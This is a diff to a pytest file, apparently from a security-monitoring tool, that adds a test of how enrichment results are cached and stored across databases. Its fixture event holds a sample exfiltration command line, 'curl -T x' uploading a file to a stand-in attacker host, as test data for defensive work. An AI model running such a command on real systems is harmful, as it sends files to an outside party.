@@ -7,6 +7,7 @@ from datetime import timedelta
 import pytest
 
 from exfilwatch.errors import ConfigError
+from exfilwatch.findings.store import Store
 from exfilwatch_playbooks.enrichment.enrich import Enrichers
 from exfilwatch_playbooks.enrichment.enricher import Quota
 from exfilwatch_playbooks.enrichment.enrichers.place import Place
@@ -153,6 +154,22 @@ def test_the_last_enrichment_is_kept_also_with_text_that_no_database_takes(only,
     made, kept, none = asyncio.run(twice())
     assert made == kept
     assert none is None
+
+
+def test_what_is_kept_is_kept_in_any_database(only, database):
+    only(Echo)
+    odd = subject_of(make("c", host="WS\x00\ud800", CommandLine="curl -T x https://evil-host.net"))
+
+    async def ask(now):
+        given = means(Store(database), now=now)
+        async with Enrichers({"echo": {"lifetime": "1h"}}, given) as enrichers:
+            (made,) = await enrichers.enrich([odd])
+            return made, enrichers.kept(odd.of)
+
+    for minutes, times in ((0, 1), (30, 1), (61, 2)):
+        made, kept = asyncio.run(ask(NOW + timedelta(minutes=minutes)))
+        assert made == kept
+        assert len(Echo.asked) == times
 
 
 @pytest.mark.parametrize(
